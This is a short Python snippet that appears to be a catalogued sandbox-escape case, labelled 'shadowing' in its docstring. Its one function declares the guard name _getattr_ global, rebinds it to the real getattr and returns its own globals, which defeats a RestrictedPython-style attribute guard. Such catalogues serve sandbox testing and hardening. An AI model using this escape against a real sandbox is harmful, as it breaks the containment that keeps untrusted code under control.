"""Class: shadowing. Source: own find. Escape: a global statement reaches the guard's own name."""


def attack(model, tokenizer, address):
    global _getattr_, __builtins__
    _getattr_ = getattr
    return attack.__globals__
